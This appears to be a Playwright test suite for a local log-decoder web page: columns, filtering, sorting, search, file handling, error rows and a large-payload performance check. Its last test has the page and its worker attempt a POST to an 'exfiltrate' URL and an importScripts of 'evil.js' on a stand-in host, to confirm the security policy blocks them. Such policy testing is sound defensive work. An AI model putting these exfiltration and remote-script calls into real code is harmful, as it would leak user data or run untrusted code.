// The decoder page in a real headless Chromium (Debian's package, driven
// by playwright-core): opened from file://, payloads pasted, dropped and
// opened; the table's columns, kind filter, sorting and search; a
// 20,000-event payload decoded in the page's worker while the page stays
// responsive; and not one request leaving the page or its worker.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';

import { fixturesDir, goldenLines, jsOut, root } from './fixtures.mjs';
import { kinesisEvent, requestId } from './workload.mjs';

const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium';
const seedText = readFileSync(join(fixturesDir, 'seed-kinesis-event.json'), 'utf8');
const pageUrl = pathToFileURL(join(jsOut, 'decoder.html')).href;
const version = JSON.parse(readFileSync(join(root, 'crates', 'js', 'npm', 'package.json'), 'utf8')).version;

let browser;
let page;
const requests = [];
const workerScripts = [];

before(async () => {
  assert.ok(existsSync(CHROMIUM), `${CHROMIUM} is missing (apt-get install chromium)`);
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    // The machine has no network: keep Chromium from trying its own hosts.
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync'],
  });
  page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
  page.on('request', (request) => {
    // The worker's script is a blob: URL the page made of its own text.
    if (request.url().startsWith('blob:')) workerScripts.push(request.url());
    else if (request.url() !== pageUrl) requests.push(request.url());
  });
  page.on('pageerror', (error) => requests.push(`page error: ${error.message}`));
  await page.goto(pageUrl);
  await page.waitForSelector('body[data-ready="true"]');
});

after(async () => {
  await browser?.close();
});

/** Waits until the page has nothing left to do (decode, query, typing pause). */
async function settled() {
  await page.waitForFunction(() => document.body.dataset.busy === 'false');
}

async function paste(text) {
  await page.fill('#input', text);
  await page.click('#decode');
  await settled();
}

/** Default options, no search, every kind, input order: what a test left behind is undone. */
async function resetView() {
  for (const id of ['#commons', '#threshold', '#streams']) await page.fill(id, '');
  await page.selectOption('#schema', 'gen3');
  await page.fill('#search', '');
  for (const box of await page.$$('#kinds input')) await box.check();
  for (let i = 0; i < 2 && await page.$('#results thead th[aria-sort]'); i += 1) await page.click('#results thead th[aria-sort] button');
  await settled();
}

/** The drawn rows: kind, id, and each cell by its column's key. */
async function tableRows() {
  return page.$$eval('#results tbody tr.row', (rows) => {
    const keys = [...document.querySelectorAll('#results thead th')].map((th) => th.dataset.col);
    return rows.map((row) => ({
      kind: row.dataset.kind,
      id: row.dataset.id,
      classes: row.className,
      cells: Object.fromEntries([...row.cells].map((cell, index) => [keys[index], cell.textContent])),
      titles: Object.fromEntries([...row.cells].map((cell, index) => [keys[index], cell.title])),
    }));
  });
}

async function columns() {
  return page.$$eval('#results thead th', (cells) => cells.map((th) => th.dataset.col));
}

function ndjsonOf(expected) {
  return goldenLines(expected).map((line) => `${line}\n`).join('');
}

/** The seed's event with a third record whose gzip is cut short. */
function seedWithCorruptedRecord() {
  const event = JSON.parse(seedText);
  const good = event.Records[0];
  const data = Buffer.from(good.kinesis.data, 'base64');
  const corrupted = structuredClone(good);
  corrupted.kinesis.data = data.subarray(0, data.length - 40).toString('base64');
  corrupted.kinesis.sequenceNumber = '49545115243490985018280067714973144582180062593244200999';
  corrupted.eventID = `shardId-000000000000:${corrupted.kinesis.sequenceNumber}`;
  event.Records.push(corrupted);
  return JSON.stringify(event, null, 2);
}

test('the page shows its version', async () => {
  assert.equal(await page.textContent('#version'), `v${version}`);
});

test('the seed pasted: pod, container and the raw log line in their columns, ids by their suffix, counts in words', async () => {
  await resetView();
  await paste(seedText);
  const rows = await tableRows();
  assert.deepEqual(rows.map((row) => row.kind), ['document', 'document']);
  const ids = ['33937864433052288198345880427171302362958917358574829568', '33937864433052288198345880427171302362958917358574829569'];
  assert.deepEqual(rows.map((row) => row.id), ids);
  // Access-log columns are left out: no row has a value for them.
  assert.deepEqual(await columns(), ['kind', 'time', 'record', 'source', 'container', 'message', 'id']);
  const [first, second] = rows;
  assert.equal(await page.textContent('#results thead th[data-col="time"]'), 'Time 2018-03-23');
  assert.equal(first.cells.time, '17:34:34.000');
  assert.equal(first.titles.time, '2018-03-23T17:34:34.000Z');
  // The stream by its pod name, the whole stream on hover.
  // The stream by its pod name (a longer one would be cut in its middle:
  // pods of a deployment differ at their end), pod and stream on hover.
  assert.equal(first.cells.source, 'sheepdog-deployment-1767503258-n23ck');
  assert.match(first.titles.source, /^pod: sheepdog-deployment-1767503258-n23ck\nlog stream: kubernetes\.var\.log\.containers\.sheepdog-deployment-1767503258-n23ck_phillis_sheepdog-da45e6f0d387[0-9a-f]+\.log\nnamespace: phillis\nlog group: devplanetv1$/);
  assert.equal(first.cells.container, 'sheepdog');
  assert.match(first.cells.message, /^\[pid: 28\|app: 0\|req: 1936\/2826\] .* GET \/_status => generated 7 bytes in 4 msecs/);
  // Ids differ in their last digits only: that is what is shown.
  assert.deepEqual(rows.map((row) => row.cells.id), ['…74829568', '…74829569']);
  assert.deepEqual(rows.map((row) => row.titles.id), ids);
  // The record: its index and the sequence number's end, the whole on hover.
  assert.match(first.cells.record, /^#0 …\d{6}$/);
  assert.equal(first.cells.record, second.cells.record);
  assert.match(first.titles.record, /^record 0\nsequenceNumber 4954511524349098501828006771497314458218006259324420\d+\npartitionKey /);
  const expected = readFileSync(join(fixturesDir, 'seed-kinesis-event.expected.ndjson'), 'utf8');
  assert.equal(await page.inputValue('#ndjson'), ndjsonOf(expected));
  assert.match(await page.textContent('#summary'), /^2 documents, 0 alerts, 0 errors, 1 record, 2 events, 0 control messages from 1,637 bytes \(1,951 decompressed\), decoded in \d+ ms\.$/);
  assert.equal(await page.textContent('#shown'), '2 of 2 rows shown');
});

test('a corrupted record is a red error row placed with its record, its time marked as the arrival; it opens to the raw data', async () => {
  await resetView();
  await paste(seedWithCorruptedRecord());
  const rows = await tableRows();
  assert.deepEqual(rows.map((row) => row.kind), ['document', 'document', 'error']);
  const error = rows[2];
  assert.match(error.cells.message, /^gzip: Kinesis record 1 \(sequenceNumber 49545115243490985018280067714973144582180062593244200999\): gzip data/);
  assert.match(error.id, /^err-[0-9a-f]{32}$/);
  assert.equal(error.cells.id, `${error.id.slice(0, 12)}…`);
  // Record 1, told from record 0 by the end of its sequence number.
  assert.match(rows[0].cells.record, /^#0 …\d+$/);
  assert.equal(error.cells.record, '#1 …200999');
  assert.match(error.titles.time, /the record's arrival time/);
  assert.match(await page.getAttribute('#results tbody tr.error td.time', 'class'), /arrival/);
  const background = await page.$eval('#results tbody tr.error', (row) => getComputedStyle(row).backgroundColor);
  assert.equal(background, 'rgb(253, 231, 231)');
  // Its row opens the whole error document, raw data included (Enter on
  // a focused row, as a click does).
  await page.focus('#results tbody tr.error');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#results tbody tr.detail pre');
  const detail = JSON.parse(await page.textContent('#results tbody tr.detail pre'));
  assert.equal(detail.error.kind, 'gzip');
  assert.equal(detail.error.record_index, 1);
  assert.equal(detail.raw_encoding, 'text');
  assert.ok(detail.raw_data.length > 100);
  assert.match(await page.textContent('#results tbody tr.detail .facts'), new RegExp(`id ${error.id}`));
  // Open a document too: its text as the core wrote it, every digit kept.
  await page.click('#results tbody tr.row[data-index="0"]');
  await page.waitForSelector('#results tbody tr.row[data-index="0"] + tr.detail pre');
  const text = await page.textContent('#results tbody tr.row[data-index="0"] + tr.detail pre');
  assert.equal(JSON.stringify(JSON.parse(text)), goldenLines(readFileSync(join(fixturesDir, 'seed-kinesis-event.expected.ndjson'), 'utf8'))[0]);
  assert.match(text, /^\{\n {2}"messageType": "DATA_MESSAGE",\n/);
  await page.click('#results tbody tr.row[data-index="0"]');
  assert.equal(await page.$('#results tbody tr.row[data-index="0"] + tr.detail'), null, 'a second click closes it');
});

test('access logs: status, verb and request, seconds and user in columns; alerts right after their documents', async () => {
  await resetView();
  await paste(readFileSync(join(fixturesDir, 'alerts.json'), 'utf8'));
  assert.equal((await tableRows()).filter((row) => row.kind === 'alert').length, 0, 'no threshold, no alerts');
  await page.fill('#threshold', '65');
  await page.fill('#streams', 'revproxy, sheepdog, peregrine');
  await page.fill('#commons', 'devplanetv1');
  await page.click('#decode');
  await settled();
  assert.deepEqual(await columns(), ['kind', 'time', 'record', 'source', 'container', 'status', 'request', 'secs', 'user', 'message', 'id']);
  const rows = await tableRows();
  const expected = readFileSync(join(fixturesDir, 'alerts.expected.ndjson'), 'utf8');
  const lines = goldenLines(expected);
  // Rows are the golden lines, in their order.
  assert.deepEqual(rows.map((row) => row.kind), lines.map((line) => (line.startsWith('{"alert"') ? 'alert' : 'document')));
  assert.deepEqual(
    { status: rows[0].cells.status, request: rows[0].cells.request, secs: rows[0].cells.secs, user: rows[0].cells.user, source: rows[0].cells.source, message: rows[0].cells.message },
    { status: '200', request: 'POST /api/v0/submission/graphql?query=secret', secs: '70.512', user: '42', source: 'revproxy-deployment-7d9f8c6b5-x2x9q', message: 'request done' },
  );
  rows.forEach((row, index) => {
    if (row.kind !== 'alert') return;
    const document = rows[index - 1];
    assert.equal(document.kind, 'document');
    assert.equal(document.id, row.id);
    assert.match(document.classes, /alerted/);
    assert.equal(row.cells.message, `Slow response: ${JSON.parse(lines[index]).alert.seconds} s`);
    assert.equal(row.cells.secs, JSON.parse(lines[index]).alert.seconds);
  });
  assert.equal(await page.inputValue('#ndjson'), ndjsonOf(expected));
  const alerts = lines.filter((line) => line.startsWith('{"alert"')).length;
  assert.equal(alerts, 3);
  assert.match(await page.textContent('#summary'), /^6 documents, 3 alerts, 0 errors, 2 records, 6 events, 0 control messages/);
});

test('kind filter: documents, alerts and errors each shown or hidden, with their counts', async () => {
  // Still the alerts fixture with its options.
  assert.deepEqual(await page.$$eval('#kinds b', (counts) => counts.map((count) => count.textContent)), ['6', '3', '0']);
  await page.uncheck('#kinds input[data-kind="document"]');
  await settled();
  let rows = await tableRows();
  assert.deepEqual([...new Set(rows.map((row) => row.kind))], ['alert']);
  assert.equal(rows.length, 3);
  assert.equal(await page.textContent('#shown'), '3 of 3 matching rows shown (9 in all)');
  await page.uncheck('#kinds input[data-kind="alert"]');
  await settled();
  assert.equal((await tableRows()).length, 0);
  await page.check('#kinds input[data-kind="document"]');
  await page.check('#kinds input[data-kind="alert"]');
  await settled();
  rows = await tableRows();
  assert.equal(rows.length, 9);
});

test('sorting: a header sorts by its column, again reverses, a third time restores input order', async () => {
  const inputOrder = (await tableRows()).map((row) => `${row.kind} ${row.id}`);
  const secs = async () => (await tableRows()).map((row) => Number(row.cells.secs));
  await page.click('#results thead th[data-col="secs"] button');
  await settled();
  const ascending = await secs();
  assert.deepEqual(ascending, [...ascending].sort((a, b) => a - b));
  assert.equal(await page.getAttribute('#results thead th[data-col="secs"]', 'aria-sort'), 'ascending');
  await page.click('#results thead th[data-col="secs"] button');
  await settled();
  const descending = await secs();
  assert.deepEqual(descending, [...ascending].sort((a, b) => b - a));
  assert.equal(descending[0], 120);
  await page.click('#results thead th[data-col="secs"] button');
  await settled();
  assert.deepEqual((await tableRows()).map((row) => `${row.kind} ${row.id}`), inputOrder);
  assert.equal(await page.getAttribute('#results thead th[data-col="secs"]', 'aria-sort'), null);
  // Text columns sort too; equal keys keep input order.
  await page.click('#results thead th[data-col="request"] button');
  await settled();
  const requests = (await tableRows()).map((row) => row.cells.request);
  assert.deepEqual(requests, [...requests].sort());
  await page.click('#results thead th[data-col="request"] button');
  await page.click('#results thead th[data-col="request"] button');
  await settled();
});

test('search reads the decoded values: words in any case, a quoted phrase exactly as typed', async () => {
  const search = async (text) => {
    await page.fill('#search', text);
    await settled();
    return tableRows();
  };
  // Words, any case, anywhere in a row's values.
  let rows = await search('SLOW response');
  assert.deepEqual([...new Set(rows.map((row) => row.kind))], ['alert']);
  assert.equal(rows.length, 3);
  // A phrase as typed: found in the access log's values, not in escaped JSON.
  rows = await search('"POST /user/user"');
  assert.equal(rows.length, 0, 'the verb and the request are two values');
  rows = await search('"/user/user"');
  assert.deepEqual(rows.map((row) => row.kind), ['document', 'alert']);
  rows = await search('"/USER/user"');
  assert.equal(rows.length, 0, 'a phrase keeps its case');
  rows = await search('"request done" fence');
  assert.deepEqual(rows.map((row) => row.kind), ['document']);
  // The raw log line is a value too: its own quotes match as typed.
  rows = await search('"\\"user_id\\":\\"42\\""');
  assert.equal(rows.length, 0, 'backslashes are not in the decoded text');
  rows = await search('"gen3log":"nginx"');
  assert.ok(rows.length >= 5, 'quotes inside the raw access-log line');
  assert.match(await page.textContent('#shown'), /matching rows? shown \(9 in all\)$/);
  await search('');
  assert.equal((await tableRows()).length, 9);
});

test('Copy copies the whole NDJSON and says so', async () => {
  await resetView();
  await paste(seedText);
  await page.click('#copy');
  await page.waitForFunction(() => document.querySelector('#copy-status').textContent !== '');
  assert.match(await page.textContent('#copy-status'), /^Copied 2 lines \(\d+\.\d KB\)\.$/);
  assert.equal(await page.getAttribute('#copy-status', 'class'), 'ok');
});

test('a binary file dropped on the payload box (an S3 archive) decodes as bytes', async () => {
  await resetView();
  const archive = [...readFileSync(join(fixturesDir, 's3-archive.gz'))];
  const dataTransfer = await page.evaluateHandle((bytes) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([new Uint8Array(bytes)], 's3-archive.gz', { type: 'application/gzip' }));
    return transfer;
  }, archive);
  await page.dispatchEvent('#input', 'drop', { dataTransfer });
  await page.waitForFunction(() => document.querySelector('#file-note').textContent.includes('binary'));
  await settled();
  const expected = readFileSync(join(fixturesDir, 's3-archive.expected.ndjson'), 'utf8');
  const rows = await tableRows();
  assert.equal(rows.length, goldenLines(expected).length);
  assert.equal(await page.inputValue('#ndjson'), ndjsonOf(expected));
});

test('a text file opened with the file picker lands in the payload box', async () => {
  await resetView();
  await page.setInputFiles('#file', { name: 'seed.json', mimeType: 'application/json', buffer: Buffer.from(seedText) });
  await page.waitForFunction(() => document.querySelectorAll('#results tbody tr.row').length === 2 && document.body.dataset.busy === 'false');
  assert.equal(await page.inputValue('#input'), seedText);
  assert.equal(await page.textContent('#file-note'), '');
});

test('bad options are reported, not thrown away', async () => {
  await resetView();
  await paste(seedText);
  await page.evaluate(() => { document.querySelector('#threshold').type = 'text'; });
  await page.fill('#threshold', 'soon');
  await page.click('#decode');
  assert.match(await page.textContent('#problem'), /threshold "soon" is not a number/);
  // A value the core refuses comes back from the worker.
  await page.fill('#threshold', '-3');
  await page.click('#decode');
  await settled();
  assert.match(await page.textContent('#problem'), /^options\.slowThresholdSecs: -3 is not a finite number of seconds at least 0$/);
  await page.fill('#threshold', '');
  await page.click('#decode');
  await settled();
  assert.equal(await page.textContent('#problem'), '');
  await page.evaluate(() => { document.querySelector('#threshold').type = 'number'; });
});

test('a mixed payload (access logs, pod lines, syslog, alerts, a corrupted record): the screenshot', async () => {
  await resetView();
  const event = JSON.parse(kinesisEvent({ records: 6, eventsPerRecord: 3, slowEvery: 2 }).text);
  const broken = structuredClone(event.Records[2]);
  broken.kinesis.data = broken.kinesis.data.slice(0, 200);
  broken.kinesis.sequenceNumber = '49582863307409319741090962153614735877224301205609510006';
  broken.eventID = `shardId-000000000000:${broken.kinesis.sequenceNumber}`;
  event.Records.push(broken);
  await page.fill('#threshold', '65');
  await paste(JSON.stringify(event, null, 1));
  const rows = await tableRows();
  const kinds = rows.map((row) => row.kind);
  assert.equal(kinds.filter((kind) => kind === 'document').length, 18);
  assert.ok(kinds.includes('alert'));
  assert.equal(kinds.at(-1), 'error');
  assert.equal(rows.at(-1).cells.record, '#6 …510006');
  // Syslog lines: the stream in the source column, the line as the message.
  const syslog = rows.find((row) => row.cells.source === 'login_node-auth-ip-172-24-64-40');
  assert.match(syslog.cells.message, /sshd\[\d+\]: Accepted publickey/);
  assert.equal(syslog.cells.container, '');
  if (process.env.SCREENSHOT) {
    await page.mouse.move(0, 0);
    await page.screenshot({ path: process.env.SCREENSHOT, fullPage: true });
  }
  await page.fill('#threshold', '');
});

test('20,000 events: decoded in the worker with progress; first rows soon, the page never blocked; filter, sort and search stay quick', async (t) => {
  await resetView();
  const workload = kinesisEvent({ records: 20, eventsPerRecord: 1000 });
  assert.equal(workload.events, 20000);
  await page.fill('#threshold', '65');
  await page.fill('#search', '');
  await settled();
  // A probe in the page: the longest the main thread went without running
  // a timer, when the first row was drawn, and whether progress was shown.
  await page.evaluate(() => {
    const probe = { gaps: [], progress: new Set(), start: 0, firstRows: null };
    window.probe = probe;
    let last = performance.now();
    probe.timer = setInterval(() => {
      const now = performance.now();
      probe.gaps.push(now - last);
      last = now;
    }, 10);
    new MutationObserver(() => {
      if (probe.firstRows === null && probe.start && document.querySelector('#results tbody tr.row')) probe.firstRows = performance.now() - probe.start;
    }).observe(document.querySelector('#results tbody'), { childList: true });
    new MutationObserver(() => {
      if (!document.querySelector('#progress').hidden) probe.progress.add(document.querySelector('#progress-text').textContent.replace(/[\d,.]+/g, 'N'));
    }).observe(document.querySelector('#progress'), { attributes: true, childList: true, subtree: true, characterData: true });
    document.querySelector('#file').addEventListener('change', () => {
      probe.start = performance.now();
      probe.firstRows = null;
    }, { capture: true });
  });
  const opened = Date.now();
  await page.setInputFiles('#file', { name: 'kinesis-20000.json', mimeType: 'application/json', buffer: Buffer.from(workload.text) });
  await page.waitForFunction(() => window.probe.firstRows !== null);
  await settled();
  await page.waitForFunction(() => document.querySelector('#ndjson').value !== '');
  const probe = await page.evaluate(() => {
    clearInterval(window.probe.timer);
    const { gaps, progress, start, firstRows } = window.probe;
    return { maxGap: Math.max(...gaps), firstRows, total: performance.now() - start, progress: [...progress] };
  });
  const wall = Date.now() - opened;
  // The text is too large for the box: decoded as is, said so.
  assert.match(await page.textContent('#file-note'), /kinesis-20000\.json: \d+\.\d KB of text, decoded as is/);
  assert.equal(await page.inputValue('#input'), '');
  const entries = (20000 + workload.slow).toLocaleString('en-US');
  assert.match(await page.textContent('#summary'), new RegExp(`^20,000 documents, ${workload.slow} alerts, 0 errors, 20 records, 20,000 events, 0 control messages`));
  assert.equal(await page.textContent('#shown'), `200 of ${entries} rows shown`);
  assert.ok(probe.progress.some((text) => /^Decoding N KB…$/.test(text)), `progress shown: ${probe.progress}`);
  assert.ok(probe.progress.some((text) => /^Preparing rows: N of N rows$/.test(text)), `progress shown: ${probe.progress}`);
  // The box holds the NDJSON's start; Copy takes it all.
  assert.match(await page.textContent('#ndjson-note'), new RegExp(`^The first [\\d,]+ of ${entries} lines are shown; Copy copies them all\\.$`));
  // More rows on demand, from the worker.
  await page.click('#more');
  await settled();
  assert.equal(await page.textContent('#shown'), `400 of ${entries} rows shown`);
  const rows = await tableRows();
  assert.equal(rows.length, 400);
  assert.deepEqual(rows.slice(0, 3).map((row) => row.cells.id), ['…00000000', '…00000001', '…00000002']);
  assert.equal(rows[0].cells.record, '#0 …510000');
  assert.equal(rows.at(-1).cells.record, '#0 …510000');
  t.diagnostic(`20,000 events: first rows after ${Math.round(probe.firstRows)} ms, all rows after ${Math.round(probe.total)} ms (${wall} ms wall), longest main-thread gap ${Math.round(probe.maxGap)} ms`);
  // The page answered timers throughout (the old page froze 3.6 s on one task).
  assert.ok(probe.maxGap < 500, `main thread blocked for ${Math.round(probe.maxGap)} ms`);
  assert.ok(probe.firstRows < 5000, `first rows after ${Math.round(probe.firstRows)} ms`);

  // Filter, sort and search over 20,051 rows, each answered by the worker.
  const timed = async (action) => {
    const started = Date.now();
    await action();
    await settled();
    return Date.now() - started;
  };
  const alertsOnly = await timed(async () => page.uncheck('#kinds input[data-kind="document"]'));
  assert.equal(await page.textContent('#shown'), `${workload.slow} of ${workload.slow} matching rows shown (${entries} in all)`);
  await page.check('#kinds input[data-kind="document"]');
  await settled();
  const sorted = await timed(async () => page.click('#results thead th[data-col="secs"] button'));
  await page.click('#results thead th[data-col="secs"] button');
  await settled();
  const top = await tableRows();
  const slowest = Math.max(...top.map((row) => Number(row.cells.secs)));
  assert.equal(Number(top[0].cells.secs), slowest);
  assert.ok(slowest > 65);
  await page.click('#results thead th[data-col="secs"] button');
  await settled();
  // One request id, of record 8's sixth event.
  const searched = await timed(async () => page.fill('#search', `"${requestId(8005)}"`));
  const found = await tableRows();
  assert.equal(found.length, 1);
  assert.equal(found[0].cells.record, '#8 …510008');
  assert.match(found[0].cells.request, /^(GET|POST|PUT) \//);
  t.diagnostic(`${entries} rows: kind filter ${alertsOnly} ms, sort ${sorted} ms, search ${searched} ms (each including the 150 ms typing pause for search)`);
  await page.fill('#search', '');
  await settled();
  await page.fill('#threshold', '');
});

test('nothing left the page: no request but the page and its worker\'s blob:, no script error; the policy blocks any, in the worker too', async () => {
  assert.deepEqual(requests, []);
  assert.equal(workerScripts.length, 1, 'one worker, started once');
  assert.match(workerScripts[0], /^blob:null\//);
  const attempt = await page.evaluate(async () => {
    const violation = new Promise((resolve) => document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), { once: true }));
    const outcome = await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
    let worker;
    try {
      new Worker('https://example.com/worker.js');
      worker = 'started';
    } catch (error) {
      worker = error.name;
    }
    return { outcome, directive: await violation, worker };
  });
  assert.deepEqual(attempt, { outcome: 'refused', directive: 'connect-src', worker: 'SecurityError' });
  // The worker inherits the page's policy.
  const [worker] = page.workers();
  assert.ok(worker, 'the decoder runs in a worker');
  const fromWorker = await worker.evaluate(async () => {
    const fetched = await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
    let imported;
    try {
      importScripts('https://example.com/evil.js');
      imported = 'imported';
    } catch (error) {
      imported = error.name;
    }
    return { fetched, imported };
  });
  assert.deepEqual(fromWorker, { fetched: 'refused', imported: 'NetworkError' });
  assert.deepEqual(requests, []);
});
